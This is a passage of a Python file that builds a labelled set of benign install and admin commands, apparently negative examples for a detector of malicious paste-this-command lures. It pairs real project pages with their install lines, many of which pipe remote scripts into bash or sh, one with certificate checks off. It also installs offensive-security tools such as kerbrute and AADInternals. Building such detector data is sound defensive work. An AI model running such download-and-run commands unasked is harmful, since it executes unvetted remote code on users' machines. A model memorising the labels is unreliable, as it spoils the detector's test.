    lure(technique, UNK, source, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------

GH = "https://github.com/"
OWN_PAGES = [
    # download-and-run scripts, as the projects' READMEs and sites give them
    (
        GH + "nhost/cli",
        "sudo curl -L https://raw.githubusercontent.com/nhost/cli/main/get.sh | bash",
    ),
    (
        "https://appwrite.io/docs/tooling/command-line/installation",
        "curl -sL https://appwrite.io/cli/install.sh | bash",
    ),
    (
        "https://docs.tigerbeetle.com/start/",
        "curl -Lo tigerbeetle.zip https://linux.tigerbeetle.com && unzip tigerbeetle.zip\n./tigerbeetle version",
    ),
    (GH + "mklement0/n-install", "curl -L https://bit.ly/n-install | bash"),
    (GH + "pyenv/pyenv-installer", "curl https://pyenv.run | bash"),
    (
        GH + "nodenv/nodenv-installer",
        "curl -fsSL https://github.com/nodenv/nodenv-installer/raw/HEAD/bin/nodenv-installer | bash",
    ),
    (
        GH + "Cyfrin/aderyn",
        "curl --proto '=https' --tlsv1.2 -LsSf https://github.com/cyfrin/aderyn/releases/latest/download/aderyn-installer.sh | bash",
    ),
    (
        "https://docs.ordinals.com/guides/wallet.html",
        "curl --proto '=https' --tlsv1.2 -fsLS https://ordinals.com/install.sh | bash -s",
    ),
    (GH + "extism/cli", "curl -s https://get.extism.org/cli | sh"),
    (
        "https://learn.microsoft.com/en-us/powershell/azure/install-azure-powershell",
        "Install-Module -Name Az -Repository PSGallery -Force",
    ),
    (GH + "Badgerati/Pode", "Install-Module -Name Pode"),
    (GH + "jdhitsolutions/PSScriptTools", "Install-Module PSScriptTools"),
    (GH + "Maximus5/ConEmu", "winget install Maximus5.ConEmu"),
    ("https://tabby.sh/", "winget install Eugeny.Tabby"),
    (GH + "microsoft/winget-create", "winget install wingetcreate"),
]

OWN_PAGES += [
    # Go tools with go install, as their READMEs give them
    (GH + "simeji/jid", "go install github.com/simeji/jid/cmd/jid@latest"),
    (
        GH + "hairyhenderson/gomplate",
        "go install github.com/hairyhenderson/gomplate/v4/cmd/gomplate@latest",
    ),
    (GH + "jorgerojas26/lazysql", "go install github.com/jorgerojas26/lazysql@latest"),
    (
        GH + "magefile/mage",
        "git clone https://github.com/magefile/mage\ncd mage\ngo run bootstrap.go",
    ),
    (
        GH + "sqshq/sampler",
        "sudo wget https://github.com/sqshq/sampler/releases/download/v1.1.0/sampler-1.1.0-linux-amd64 -O /usr/local/bin/sampler\nsudo chmod +x /usr/local/bin/sampler",
    ),
    (GH + "traefik/yaegi", "go install github.com/traefik/yaegi/cmd/yaegi@latest"),
    # Go libraries, with go get as their READMEs give it
    (GH + "labstack/echo", "go get github.com/labstack/echo/v4"),
    (GH + "urfave/cli", "go get github.com/urfave/cli/v3@latest"),
    (GH + "uber-go/zap", "go get -u go.uber.org/zap"),
    (GH + "sirupsen/logrus", "go get github.com/sirupsen/logrus"),
    (GH + "go-playground/validator", "go get github.com/go-playground/validator/v10"),
    (GH + "segmentio/kafka-go", "go get github.com/segmentio/kafka-go"),
    (GH + "charmbracelet/bubbletea", "go get github.com/charmbracelet/bubbletea"),
    (GH + "charmbracelet/huh", "go get github.com/charmbracelet/huh@latest"),
    (GH + "PuerkitoBio/goquery", "go get github.com/PuerkitoBio/goquery"),
    (GH + "gocolly/colly", "go get -u github.com/gocolly/colly/v2/..."),
    (GH + "go-rod/rod", "go get github.com/go-rod/rod"),
    (GH + "uptrace/bun", "go get github.com/uptrace/bun@latest"),
    (GH + "robfig/cron", "go get github.com/robfig/cron/v3@v3.0.0"),
    (GH + "gorilla/websocket", "go get github.com/gorilla/websocket"),
    (GH + "go-resty/resty", "go get github.com/go-resty/resty/v2"),
    (GH + "dgraph-io/badger", "go get github.com/dgraph-io/badger/v4"),
    (GH + "shopspring/decimal", "go get github.com/shopspring/decimal"),
    (
        GH + "onsi/ginkgo",
        "go install github.com/onsi/ginkgo/v2/ginkgo\ngo get github.com/onsi/gomega/...",
    ),
    (GH + "joho/godotenv", "go get github.com/joho/godotenv"),
    (GH + "caarlos0/env", "go get github.com/caarlos0/env/v11"),
    (GH + "tidwall/gjson", "go get -u github.com/tidwall/gjson"),
    (GH + "schollz/progressbar", "go get -u github.com/schollz/progressbar/v3"),
    (GH + "alecthomas/kong", "go get github.com/alecthomas/kong"),
    (GH + "dop251/goja", "go get github.com/dop251/goja"),
    (GH + "microcosm-cc/bluemonday", "go get github.com/microcosm-cc/bluemonday"),
    (GH + "xuri/excelize", "go get github.com/xuri/excelize/v2"),
    (GH + "sashabaranov/go-openai", "go get github.com/sashabaranov/go-openai"),
    (GH + "minio/minio-go", "go get github.com/minio/minio-go/v7"),
    (GH + "Masterminds/squirrel", "go get github.com/Masterminds/squirrel"),
    (GH + "sourcegraph/conc", "go get github.com/sourcegraph/conc"),
    (GH + "patrickmn/go-cache", "go get github.com/patrickmn/go-cache"),
    (GH + "dgraph-io/ristretto", "go get github.com/dgraph-io/ristretto/v2"),
    (GH + "pelletier/go-toml", "go get github.com/pelletier/go-toml/v2"),
]

OWN_PAGES += [
    # Rust tools, as their READMEs give them
    (GH + "casey/intermodal", "cargo install imdl"),
    (GH + "dathere/qsv", "cargo install qsv --locked --features all_features"),
    (GH + "qarmin/czkawka", "cargo install czkawka_cli"),
    (GH + "achristmascarl/rainfrog", "cargo install rainfrog"),
    (GH + "bheisler/criterion.rs", "cargo add criterion --dev"),
    (GH + "tokio-rs/tokio", "cargo add tokio --features full"),
    (GH + "serde-rs/serde", "cargo add serde --features derive"),
    (GH + "clap-rs/clap", "cargo add clap --features derive"),
    (GH + "tokio-rs/axum", "cargo add axum"),
    (GH + "launchbadge/sqlx", "cargo add sqlx --features runtime-tokio,postgres"),
    (GH + "ratatui/ratatui", "cargo add ratatui crossterm"),
    (GH + "evcxr/evcxr", "cargo install --locked evcxr_repl"),
    (GH + "rustic-rs/rustic", "cargo install rustic-rs"),
    # Homebrew formulae, taps and casks
    (GH + "xbarapp/xbar", "brew install --cask xbar"),
    (GH + "Ranchero-Software/NetNewsWire", "brew install --cask netnewswire"),
    (GH + "macvim-dev/macvim", "brew install --cask macvim"),
]

OWN_PAGES += [
    # Python, as the projects' READMEs and docs give it
    (GH + "simonw/files-to-prompt", "pip install files-to-prompt"),
    (GH + "simonw/strip-tags", "pip install strip-tags"),
    (
        GH + "hiyouga/LLaMA-Factory",
        'git clone --depth 1 https://github.com/hiyouga/LLaMA-Factory.git\ncd LLaMA-Factory\npip install -e ".[torch,metrics]"',
    ),
    (GH + "streamlink/streamlink", "pip install --upgrade streamlink"),
    (GH + "tqdm/tqdm", "pip install tqdm"),
    (GH + "jd/tenacity", "pip install tenacity"),
    (GH + "hynek/structlog", "python -m pip install structlog"),
    (GH + "jcrist/msgspec", "pip install msgspec"),
    (GH + "fastapi/sqlmodel", "pip install sqlmodel"),
    (GH + "coleifer/peewee", "pip install peewee"),
    (GH + "coleifer/huey", "pip install huey"),
    (GH + "python-arq/arq", "pip install arq"),
    (GH + "holoviz/panel", "pip install panel"),
    (GH + "optuna/optuna", "pip install optuna"),
    (GH + "567-labs/instructor", "pip install instructor"),
    (GH + "moses-palmer/pynput", "pip install pynput"),
    (GH + "pywinauto/pywinauto", "pip install -U pywinauto"),
    (GH + "ktbyers/netmiko", "pip install netmiko"),
    (GH + "secdev/scapy", "pip install scapy"),
    (GH + "ronf/asyncssh", "pip install asyncssh"),
    (GH + "python-trio/trio", "pip install trio"),
    (GH + "rushter/selectolax", "pip install selectolax"),
    (GH + "microsoft/playwright-python", "pip install pytest-playwright\nplaywright install"),
    (GH + "Tinche/aiofiles", "pip install aiofiles"),
    (GH + "agronholm/anyio", "pip install anyio"),
    (GH + "python-humanize/humanize", "python3 -m pip install --upgrade humanize"),
    (GH + "lepture/mistune", "pip install mistune"),
    (GH + "kedro-org/kedro", "pip install kedro"),
    (GH + "ibis-project/ibis", "pip install 'ibis-framework[duckdb]'"),
    (GH + "hauntsaninja/pyp", "pip install pypyp"),
    (
        GH + "python-semantic-release/python-semantic-release",
        "python3 -m pip install python-semantic-release",
    ),
    (GH + "Azure/azure-cli", "pip install azure-cli"),
    (GH + "awslabs/aws-shell", "pip install aws-shell"),
    # JavaScript, as the projects' READMEs give it
    (GH + "neondatabase/neonctl", "npm i -g neonctl"),
    (GH + "railwayapp/cli", "npm i -g @railway/cli"),
    (GH + "hapijs/hapi", "npm install @hapi/hapi"),
    (GH + "typeorm/typeorm", "npm install typeorm reflect-metadata"),
    (GH + "mikro-orm/mikro-orm", "npm install @mikro-orm/core @mikro-orm/postgresql"),
    (GH + "kysely-org/kysely", "npm install kysely"),
    (GH + "colinhacks/zod", "npm install zod"),
    (GH + "chalk/chalk", "npm install chalk"),
    (GH + "sindresorhus/execa", "npm install execa"),
    (GH + "google/zx", "npm install zx"),
    (GH + "tj/commander.js", "npm install commander"),
    (GH + "yargs/yargs", "npm install --save yargs"),
    (GH + "SBoudrias/Inquirer.js", "npm install @inquirer/prompts"),
    (GH + "cypress-io/cypress", "npm install cypress --save-dev"),
    (GH + "mrdoob/three.js", "npm install --save three"),
    (GH + "pm2/pm2", "npm install pm2@latest -g"),
    (GH + "hexojs/hexo", "npm install hexo-cli -g"),
    (GH + "medusajs/medusa", "npx create-medusa-app@latest"),
]

OWN_PAGES += [
    # containers, packages and app images, as the projects give them
    (
        GH + "searxng/searxng-docker",
        "git clone https://github.com/searxng/searxng-docker.git\ncd searxng-docker",
    ),
    (
        GH + "axllent/mailpit",
        "docker run -d --name=mailpit -p 8025:8025 -p 1025:1025 axllent/mailpit",
    ),
    (GH + "mailhog/MailHog", "go install github.com/mailhog/MailHog@latest"),
    (GH + "gotify/server", "docker run -p 80:80 -v /var/gotify/data:/app/data gotify/server"),
    (GH + "jgraph/drawio-desktop", "sudo snap install drawio"),
    (GH + "flathub/com.spotify.Client", "flatpak install flathub com.spotify.Client"),
    (
        GH + "TheAssassin/AppImageLauncher",
        "sudo add-apt-repository ppa:appimagelauncher-team/stable\nsudo apt update\nsudo apt install appimagelauncher",
    ),
    (GH + "logseq/logseq", "flatpak install flathub com.logseq.Logseq"),
    (GH + "Vencord/Vesktop", "flatpak install flathub dev.vencord.Vesktop"),
    ("https://www.teamviewer.com/en/download/linux/", "sudo apt install ./teamviewer_amd64.deb"),
    (GH + "MusicBrainz/picard", "flatpak install flathub org.musicbrainz.Picard"),
    (GH + "sinatra/sinatra", "gem install sinatra rackup puma"),
    (GH + "rubocop/rubocop", "gem install rubocop"),
    (GH + "github/linguist", "gem install github-linguist"),
    (GH + "tmuxinator/tmuxinator", "gem install tmuxinator"),
    (GH + "laravel/installer", "composer global require laravel/installer"),
    (GH + "deployphp/deployer", "composer require --dev deployer/deployer"),
    (
        GH + "quarkusio/quarkus",
        "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/quarkus/quarkus-cli/\ncurl -Ls https://sh.jbang.dev | bash -s - app install --fresh --force quarkus@quarkusio",
    ),
    (GH + "dart-lang/sdk", "brew tap dart-lang/dart\nbrew install dart"),
    (GH + "c3lang/c3c", "brew install c3c"),
    (GH + "roc-lang/roc", "brew install roc-lang/tap/roc"),
    (GH + "unisonweb/unison", "brew tap unisonweb/unison\nbrew install unison-language"),
    (GH + "ocaml/dune", "opam install dune"),
    (
        GH + "erlang/rebar3",
        "curl -O https://s3.amazonaws.com/rebar3/rebar3 && chmod +x rebar3\n./rebar3 local install",
    ),
    (GH + "denoland/deployctl", "deno install -gArf jsr:@deno/deployctl"),
    (
        GH + "luarocks/luarocks",
        "wget https://luarocks.org/releases/luarocks-3.11.1.tar.gz\ntar zxpf luarocks-3.11.1.tar.gz\ncd luarocks-3.11.1\n./configure && make && sudo make install",
    ),
]

OWN_PAGES += [
    # shell plugins, prompts and dotfile helpers
    (
        GH + "Aloxaf/fzf-tab",
        "git clone https://github.com/Aloxaf/fzf-tab ${ZSH_CUSTOM:-~/.oh-my-zsh/custom}/plugins/fzf-tab",
    ),
    (
        GH + "magicmonty/bash-git-prompt",
        "git clone https://github.com/magicmonty/bash-git-prompt.git ~/.bash-git-prompt --depth=1",
    ),
    (GH + "ddworken/hishtory", "curl https://hishtory.dev/install.py | python3 -"),
    (GH + "bashly-dev/bashly", "gem install bashly"),
    (
        GH + "petervanderdoes/gitflow-avh",
        "wget --no-check-certificate -q  https://raw.githubusercontent.com/petervanderdoes/gitflow-avh/develop/contrib/gitflow-installer.sh && sudo bash gitflow-installer.sh install stable; rm gitflow-installer.sh",
    ),
    (
        GH + "arzzen/git-quick-stats",
        "git clone https://github.com/arzzen/git-quick-stats.git && cd git-quick-stats\nsudo make install",
    ),
    (GH + "IonicaBizau/git-stats", "npm i -g git-stats"),
    (GH + "eth-p/bat-extras", "./build.sh --install"),
    (GH + "arxanas/git-branchless", "cargo install --locked git-branchless"),
    (GH + "jj-vcs/jj", "cargo install --locked --bin jj jj-cli"),
    (GH + "rtyley/bfg-repo-cleaner", "brew install bfg"),
    (GH + "x-motemen/ghq", "go install github.com/x-motemen/ghq@latest"),
    (GH + "yusukebe/gh-markdown-preview", "gh extension install yusukebe/gh-markdown-preview"),
    (GH + "meiji163/gh-notify", "gh extension install meiji163/gh-notify"),
    (GH + "vilmibm/gh-screensaver", "gh extension install vilmibm/gh-screensaver"),
    (GH + "gennaro-tedesco/gh-f", "gh extension install gennaro-tedesco/gh-f"),
    (GH + "gennaro-tedesco/gh-s", "gh extension install gennaro-tedesco/gh-s"),
    (GH + "nektos/gh-act", "gh extension install https://github.com/nektos/gh-act"),
    # Kubernetes: krew and helm plugins, manifests and charts from the projects' own pages
    (GH + "itaysk/kubectl-neat", "kubectl krew install neat"),
    (GH + "rajatjindal/kubectl-whoami", "kubectl krew install whoami"),
    (GH + "elsesiy/kubectl-view-secret", "kubectl krew install view-secret"),
    (GH + "corneliusweig/rakkess", "kubectl krew install access-matrix"),
    (GH + "aquasecurity/kubectl-who-can", "kubectl krew install who-can"),
    (GH + "yashbhutwala/kubectl-df-pv", "kubectl krew install df-pv"),
    (GH + "replicatedhq/outdated", "kubectl krew install outdated"),
    (GH + "utkuozdemir/pv-migrate", "kubectl krew install pv-migrate"),
    (GH + "chenjiandongx/kubectl-images", "kubectl krew install images"),
    (
        GH + "stackrox/kube-linter",
        "go install golang.stackrox.io/kube-linter/cmd/kube-linter@latest",
    ),
    (GH + "zegl/kube-score", "brew install kube-score"),
    (
        GH + "ahmetb/kubectl-aliases",
        "curl -fsSL -o ~/.kubectl_aliases https://raw.githubusercontent.com/ahmetb/kubectl-aliases/master/.kubectl_aliases",
    ),
    (GH + "homeport/dyff", "brew install homeport/tap/dyff"),
    (
        GH + "helm-unittest/helm-unittest",
        "helm plugin install https://github.com/helm-unittest/helm-unittest.git",
    ),
    (GH + "norwoodj/helm-docs", "go install github.com/norwoodj/helm-docs/cmd/helm-docs@latest"),
    (GH + "operator-framework/operator-sdk", "brew install operator-sdk"),
    (
        "https://argoproj.github.io/argo-rollouts/installation/",
        "kubectl create namespace argo-rollouts\nkubectl apply -n argo-rollouts -f https://github.com/argoproj/argo-rollouts/releases/latest/download/install.yaml",
    ),
    (GH + "containers/buildah", "sudo apt-get -y install buildah"),
    (GH + "cachix/cachix", "nix-env -iA cachix -f https://cachix.org/api/v1/install"),
    # networking, VPN, self-hosting
    (
        GH + "SpatiumPortae/portal",
        "curl -s https://raw.githubusercontent.com/SpatiumPortae/portal/main/scripts/install.sh | bash",
    ),
    (GH + "borgmatic-collective/borgmatic", "pipx install borgmatic"),
    (
        "https://wiki.servarr.com/sonarr/installation/linux",
        "curl -o install-sonarr.sh https://raw.githubusercontent.com/Sonarr/Sonarr/develop/distribution/debian/install.sh\nsudo bash install-sonarr.sh",
    ),
    (
        GH + "usememos/memos",
        "docker run -d --name memos -p 5230:5230 -v ~/.memos/:/var/opt/memos neosmemo/memos:stable",
    ),
    (GH + "janeczku/calibre-web", "pip install calibreweb"),
    (
        GH + "static-web-server/static-web-server",
        "curl --proto '=https' --tlsv1.2 -sSfL https://get.static-web-server.net | sh",
    ),
    (GH + "TheWaWaR/simple-http-server", "cargo install simple-http-server"),
    (GH + "reorx/httpstat", "pip install httpstat"),
    (GH + "davecheney/httpstat", "go install github.com/davecheney/httpstat@latest"),
    (GH + "Julien-cpsn/ATAC", "cargo install atac --locked"),
    (GH + "XuehaiPan/nvitop", "pip3 install --upgrade nvitop"),
    (GH + "Syllo/nvtop", "sudo apt install nvtop"),
    # security tools, as their READMEs give them
    (
        GH + "six2dez/reconftw",
        "git clone https://github.com/six2dez/reconftw\ncd reconftw/\n./install.sh",
    ),
    (GH + "maurosoria/dirsearch", "pip3 install dirsearch"),
    (GH + "mxrch/GHunt", "pipx install ghunt"),
    (GH + "megadose/holehe", "pip3 install holehe"),
    (GH + "soxoj/maigret", "pip3 install maigret"),
    (GH + "dirkjanm/BloodHound.py", "pip install bloodhound"),
    (GH + "ropnop/kerbrute", "go install github.com/ropnop/kerbrute@latest"),
    (GH + "Tib3rius/AutoRecon", "pipx install git+https://github.com/Tib3rius/AutoRecon.git"),
    (
        GH + "aboul3la/Sublist3r",
        "git clone https://github.com/aboul3la/Sublist3r.git\ncd Sublist3r\npip install -r requirements.txt",
    ),
    (GH + "pypa/pip-audit", "python -m pip install pip-audit"),
    # Python developer tools and libraries
    (GH + "kellyjonbrazil/jc", "pip3 install jc"),
    (GH + "kellyjonbrazil/jello", "pip3 install jello"),
    (GH + "jeffkaufman/icdiff", "pip install icdiff"),
    (GH + "jarun/ddgr", "pip3 install ddgr"),
    (GH + "asottile/pyupgrade", "pip install pyupgrade"),
    (GH + "PyCQA/autoflake", "pip install autoflake"),
    (GH + "tox-dev/pipdeptree", "pip install pipdeptree"),
    (GH + "gaogaotiantian/viztracer", "pip install viztracer"),
    (GH + "alexmojaki/snoop", "pip install snoop"),
    (GH + "gruns/icecream", "pip install icecream"),
    (GH + "Qix-/better-exceptions", "pip install better_exceptions"),
    (GH + "kynan/nbstripout", "pip install --upgrade nbstripout"),
    (GH + "kkroening/ffmpeg-python", "pip install ffmpeg-python"),
    (GH + "spotify/pedalboard", "pip install pedalboard"),
    (GH + "facebookresearch/demucs", "python3 -m pip install -U demucs"),
    (GH + "ranaroussi/yfinance", "pip install yfinance"),
    (GH + "ccxt/ccxt", "npm install ccxt"),
    (GH + "polakowo/vectorbt", "pip install -U vectorbt"),
    (GH + "mementum/backtrader", "pip install backtrader"),
    # PowerShell modules from the projects' pages
    (GH + "PowerShell/platyPS", "Install-Module -Name platyPS -Scope CurrentUser"),
    (GH + "PowerShell/ConsoleGuiTools", "Install-Module Microsoft.PowerShell.ConsoleGuiTools"),
    (
        GH + "PowerShell/CompletionPredictor",
        "Install-Module -Name CompletionPredictor -Repository PSGallery",
    ),
    (GH + "EvotecIT/GPOZaurr", "Install-Module GPOZaurr -Force"),
    (GH + "EvotecIT/Testimo", "Install-Module Testimo -Force"),
    (GH + "psake/psake", "Install-Module -Name psake"),
    (GH + "nightroman/Invoke-Build", "Install-Module InvokeBuild"),
    (GH + "microsoft/Microsoft365DSC", "Install-Module Microsoft365DSC -Force"),
    (GH + "AzureAD/MSAL.PS", "Install-Module MSAL.PS"),
    (GH + "Gerenios/AADInternals", "Install-Module AADInternals\nImport-Module AADInternals"),
    (GH + "darkoperator/Posh-SSH", "Install-Module -Name Posh-SSH"),
    (GH + "SCRT-HQ/PSGSuite", "Install-Module PSGSuite -Scope CurrentUser"),
    (GH + "Windos/BurntToast", "Install-Module -Name BurntToast"),
    # Windows apps with winget, from the projects' READMEs
    (GH + "Klocman/Bulk-Crap-Uninstaller", "winget install Klocman.BulkCrapUninstaller"),
    (GH + "dnGrep/dnGrep", "winget install dnGrep.dnGrep"),
    (GH + "QL-Win/QuickLook", "winget install --id QL-Win.QuickLook"),
    (GH + "rocksdanister/lively", "winget install --id=rocksdanister.LivelyWallpaper -e"),
    (GH + "Open-Shell/Open-Shell-Menu", "winget install Open-Shell.Open-Shell-Menu"),
    (
        GH + "AutoDarkMode/Windows-Auto-Night-Mode",
        "winget install --id Armin2208.WindowsAutoNightMode",
    ),
    # macOS apps with Homebrew casks, from the projects' READMEs
    (GH + "insidegui/VirtualBuddy", "brew install --cask virtualbuddy"),
    (GH + "sbarex/QLMarkdown", "brew install --cask qlmarkdown"),
    (GH + "sbarex/SourceCodeSyntaxHighlight", "brew install --cask syntax-highlight"),
    (GH + "whomwah/qlstephen", "brew install --cask qlstephen"),
    (GH + "linearmouse/linearmouse", "brew install --cask linearmouse"),
]

OWN_PAGES += [
    # science, data and documents
    (GH + "biopython/biopython", "pip install biopython"),
    (GH + "pysam-developers/pysam", "pip install pysam"),
    (GH + "deeptools/deepTools", "pip install deeptools"),
    (GH + "shenwei356/seqkit", "conda install -c bioconda seqkit"),
    (GH + "OpenGene/fastp", "conda install -c bioconda fastp"),
    (GH + "lh3/bwa", "git clone https://github.com/lh3/bwa.git\ncd bwa; make"),
    (GH + "rasterio/rasterio", "pip install rasterio"),
    (GH + "Leaflet/Leaflet", "npm install leaflet"),
    (GH + "openlayers/openlayers", "npm install ol"),
    (GH + "CesiumGS/cesium", "npm install cesium"),
    (GH + "visgl/deck.gl", "npm install deck.gl --save"),
    (GH + "felt/tippecanoe", "brew install tippecanoe"),
    (GH + "merbanan/rtl_433", "brew install rtl_433"),
    (GH + "asciidoctor/asciidoctor-pdf", "gem install asciidoctor-pdf"),
    (GH + "textlint/textlint", "npm install textlint --save-dev"),
    (GH + "get-alex/alex", "npm install alex --global"),
    (GH + "lycheeverse/lychee", "cargo install lychee"),
    (GH + "tcort/markdown-link-check", "npm install -g markdown-link-check"),
    (GH + "google/yamlfmt", "go install github.com/google/yamlfmt/cmd/yamlfmt@latest"),
    (GH + "adrienverge/yamllint", "pip install --user yamllint"),
    (GH + "mrtazz/checkmake", "go install github.com/mrtazz/checkmake/cmd/checkmake@latest"),
    (
        GH + "dotenv-linter/dotenv-linter",
        "curl -sSfL https://raw.githubusercontent.com/dotenv-linter/dotenv-linter/master/install.sh | sh -s",
    ),
    (GH + "Yelp/detect-secrets", "pip install detect-secrets"),
    (
        GH + "thoughtworks/talisman",
        "curl --silent https://raw.githubusercontent.com/thoughtworks/talisman/main/global_install_scripts/install.bash > /tmp/install_talisman.sh && /bin/bash /tmp/install_talisman.sh",
    ),
    (GH + "Checkmarx/kics", "docker pull checkmarx/kics:latest"),
    # Rust command-line tools and cargo plugins
    (GH + "PaulJuliusMartinez/jless", "cargo install jless"),
    (GH + "yamafaktory/jql", "cargo install jql"),
    (GH + "tbillington/kondo", "cargo install kondo"),
    (GH + "geiger-rs/cargo-geiger", "cargo install --locked cargo-geiger"),
    (GH + "rust-fuzz/cargo-fuzz", "cargo install cargo-fuzz"),
    (GH + "taiki-e/cargo-hack", "cargo install cargo-hack"),
    (GH + "nabijaczleweli/cargo-update", "cargo install cargo-update"),
    (GH + "watchexec/cargo-watch", "cargo install cargo-watch"),
    (GH + "sagiegurari/cargo-make", "cargo install --force cargo-make"),
    (GH + "LukeMathWalker/cargo-chef", "cargo install cargo-chef --locked"),
    (GH + "knurling-rs/flip-link", "cargo install flip-link"),
    (
        GH + "rust-embedded/cargo-binutils",
        "cargo install cargo-binutils\nrustup component add llvm-tools",
    ),
    # JavaScript command-line tools
    (GH + "sindresorhus/fkill-cli", "npm install --global fkill-cli"),
    (GH + "sindresorhus/trash-cli", "npm install --global trash-cli"),
    (GH + "sindresorhus/fast-cli", "npm install --global fast-cli"),
    (GH + "sindresorhus/public-ip-cli", "npm install --global public-ip-cli"),
    (GH + "sindresorhus/cpy-cli", "npm install --global cpy-cli"),
    (GH + "sindresorhus/del-cli", "npm install --global del-cli"),
    (GH + "sindresorhus/xo", "npm install xo --save-dev"),
    (GH + "antfu-collective/ni", "npm i -g @antfu/ni"),
    (GH + "tiged/tiged", "npm install -g tiged"),
    (GH + "motdotla/dotenv", "npm install dotenv --save"),
    (GH + "dotenvx/dotenvx", "curl -sfS https://dotenvx.sh | sh"),
    (GH + "typicode/lowdb", "npm install lowdb"),
    (GH + "Redocly/redocly-cli", "npm i -g @redocly/cli@latest"),
    (GH + "dotansimha/graphql-code-generator", "npm i -D @graphql-codegen/cli"),
    (GH + "mcollina/autocannon", "npm i autocannon -g"),
    (GH + "clinicjs/node-clinic", "npm install -g clinic"),
    (GH + "davidmarkclements/0x", "npm install -g 0x"),
    (GH + "GoogleChrome/lighthouse-ci", "npm install -g @lhci/cli"),
    (GH + "sitespeedio/sitespeed.io", "npm install -g sitespeed.io"),
    (GH + "pa11y/pa11y", "npm install -g pa11y"),
    (GH + "dequelabs/axe-core-npm", "npm install @axe-core/cli -g"),
    (GH + "imagemin/imagemin-cli", "npm install --global imagemin-cli"),
    # more Go command-line tools
    (GH + "muesli/gitomatic", "go install github.com/muesli/gitomatic@latest"),
    (GH + "charmbracelet/melt", "go install github.com/charmbracelet/melt/cmd/melt@latest"),
    (GH + "divan/expvarmon", "go install github.com/divan/expvarmon@latest"),
    (GH + "arl/statsviz", "go get github.com/arl/statsviz@latest"),
    (GH + "google/pprof", "go install github.com/google/pprof@latest"),
    (
        GH + "go-critic/go-critic",
        "go install -v github.com/go-critic/go-critic/cmd/gocritic@latest",
    ),
    (GH + "kisielk/errcheck", "go install github.com/kisielk/errcheck@latest"),
    (GH + "uudashr/gocognit", "go install github.com/uudashr/gocognit/cmd/gocognit@latest"),
    (GH + "fzipp/gocyclo", "go install github.com/fzipp/gocyclo/cmd/gocyclo@latest"),
    (GH + "ogen-go/ogen", "go install -v github.com/ogen-go/ogen/cmd/ogen@latest"),
    (GH + "ent/ent", "go run -mod=mod entgo.io/ent/cmd/ent new User"),
    (
        "https://litestream.io/install/debian/",
        "wget https://github.com/benbjohnson/litestream/releases/download/v0.3.13/litestream-v0.3.13-linux-amd64.deb\nsudo dpkg -i litestream-v0.3.13-linux-amd64.deb",
    ),
    (GH + "mholt/archiver", "go install github.com/mholt/archiver/v3/cmd/arc@latest"),
]

OWN_PAGES += [
    # a Linux desktop set-up, from its README
    (
        "https://github.com/JaKooLit/Arch-Hyprland",
        "git clone --depth=1 https://github.com/JaKooLit/Arch-Hyprland.git ~/Arch-Hyprland\ncd ~/Arch-Hyprland\nchmod +x install.sh\n./install.sh",
    ),
]

for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# --- Installers quoted in OTHER projects' pages (the page says: first install X) ----------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://github.com/oven-sh/bun/blob/main/CONTRIBUTING.md",
        "brew install automake ccache cmake coreutils gnu-sed go icu4c libiconv libtool ninja pkg-config rust ruby sccache",
    ),
    (
        "https://guides.rubyonrails.org/install_ruby_on_rails.html",
        "sudo apt install build-essential rustc libssl-dev libyaml-dev zlib1g-dev libgmp-dev\ncurl https://mise.run | sh\necho 'eval \"$(~/.local/bin/mise activate)\"' >> ~/.bashrc",
    ),
    (
        "https://pyo3.rs/main/getting-started.html",
        "python -m venv .env\nsource .env/bin/activate\npip install maturin",
    ),
    (
        "https://github.com/karpathy/nanoGPT#install",
        "pip install torch numpy transformers datasets tiktoken wandb tqdm",
    ),
    (
        "https://docs.godotengine.org/en/stable/contributing/development/compiling/compiling_for_linuxbsd.html",
        "sudo apt-get update\nsudo apt-get install -y build-essential scons pkg-config libx11-dev libxcursor-dev libxinerama-dev libgl1-mesa-dev libglu1-mesa-dev libasound2-dev libpulse-dev libudev-dev libxi-dev libxrandr-dev libwayland-dev",
    ),
    (
        "https://github.com/servo/servo#setting-up-your-environment",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n./mach bootstrap",
    ),
    (
        "https://github.com/JaKooLit/Ubuntu-Hyprland#-to-use-this-script",
        "sudo apt install git\ngit clone --depth=1 https://github.com/JaKooLit/Ubuntu-Hyprland.git ~/Ubuntu-Hyprland\ncd ~/Ubuntu-Hyprland",
    ),
    (
        "https://yew.rs/docs/getting-started/introduction",
        "rustup target add wasm32-unknown-unknown\ncargo install --locked trunk\ncargo install --locked wasm-bindgen-cli",
    ),
    (
        "https://github.com/huggingface/lerobot#installation",
        "conda create -y -n lerobot python=3.10\nconda activate lerobot\nconda install ffmpeg -c conda-forge",
    ),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://wiki.corp.example/it/windows/dns",
        TERM,
        "Resolve-DnsName -Name intranet.corp.example -Type A -Server 10.0.0.53",
    ),
    (
        "https://wiki.corp.example/it/windows/certs",
        TERM,
        "Get-ChildItem Cert:\\LocalMachine\\My | Where-Object { $_.NotAfter -lt (Get-Date).AddDays(30) } | Select-Object Subject, NotAfter",
    ),
    (
        "https://wiki.corp.example/it/ad/lockouts",
        TERM,
        "Search-ADAccount -LockedOut | Select-Object Name, SamAccountName, LastLogonDate",
    ),
    (
        "https://wiki.corp.example/it/ad/groups",
        TERM,
        "Get-ADGroupMember -Identity 'VPN-Users' -Recursive | Select-Object Name | Sort-Object Name",
    ),
    ("https://wiki.corp.example/it/windows/gpo", RUN, "cmd /c gpupdate /force"),
    (
        "https://wiki.corp.example/it/linux/disk",
        TERM,
        "sudo du -xh --max-depth=1 /var | sort -rh | head -20",
    ),
    (
        "https://wiki.corp.example/it/linux/journal",
        TERM,
        "sudo journalctl -u nginx --since '1 hour ago' --no-pager | tail -100",
    ),
    (
        "https://wiki.corp.example/it/k8s/debug",
